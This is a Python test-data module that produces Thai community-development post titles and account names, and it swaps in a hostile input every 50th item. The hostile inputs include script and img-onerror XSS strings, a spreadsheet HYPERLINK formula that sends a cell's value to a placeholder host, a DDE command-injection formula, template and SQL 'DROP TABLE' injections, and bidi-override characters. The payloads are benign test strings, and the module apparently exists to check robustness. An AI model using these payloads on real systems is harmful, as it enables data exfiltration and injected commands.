"""Titles as tambons write them, and as somebody with bad intent might. No person is named."""

WORK = (
    "ปลูกผักสวนครัว สร้างความมั่นคงทางอาหาร ต.{tambon}",
    "ผู้นำการเปลี่ยนแปลงตำบล{tambon} เอามื้อสามัคคี ครั้งที่ {number}",
    "โคก หนอง นา พัฒนาชุมชน ต.{tambon} อ.{amphoe}",
    "ตลาดนัดของดีบ้านเรา ตำบล{tambon} 🌱",
    "คัดแยกขยะครัวเรือนต้นแบบ จ.{province} วันที่ {number}",
    "วาไรตี้ผู้นำ เพราะคุณทำเราจึงตามไปดู ตอนที่ {number}",
    "ธนาคารเมล็ดพันธุ์ผัก ต.{tambon} แบ่งปันเพื่อนบ้าน",
)

HOSTILE = (
    "<script>alert('ตำบล')</script>",
    '=HYPERLINK("http://example.invalid/?x="&A1,"ดูผลคะแนน")',
    "+66 ติดต่อสอบถาม",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\"><img src=x onerror=alert(1)> & 'อัญประกาศ'",
    "\u202eย้อนทิศ \u200fขวาไปซ้าย\u202c",
    "👩‍🌾🌾🐃 " * 12,
    "บรรทัดแรก\nบรรทัดสอง\tแท็บ",
    "ยาวมาก " + "ก็" * 900,
    "{{ 7*7 }} ${7*7} %s; DROP TABLE ranking; --",
)

HOSTILE_EVERY = 50


def post_title(number: int, tambon: str, amphoe: str, province: str) -> str:
    """The title of the world's ``number``-th post; every 50th is hostile, in turn."""
    if number % HOSTILE_EVERY == 0:
        return HOSTILE[number // HOSTILE_EVERY % len(HOSTILE)]
    work = WORK[number % len(WORK)]
    return work.format(tambon=tambon, amphoe=amphoe, province=province, number=number)


def account_title(number: int, tambon: str) -> str:
    """The name of the world's ``number``-th account; every 50th is hostile, in turn."""
    if number % HOSTILE_EVERY == HOSTILE_EVERY - 1:
        return HOSTILE[number // HOSTILE_EVERY % len(HOSTILE)][:70]
    return f"พัฒนาชุมชนตำบล{tambon}"
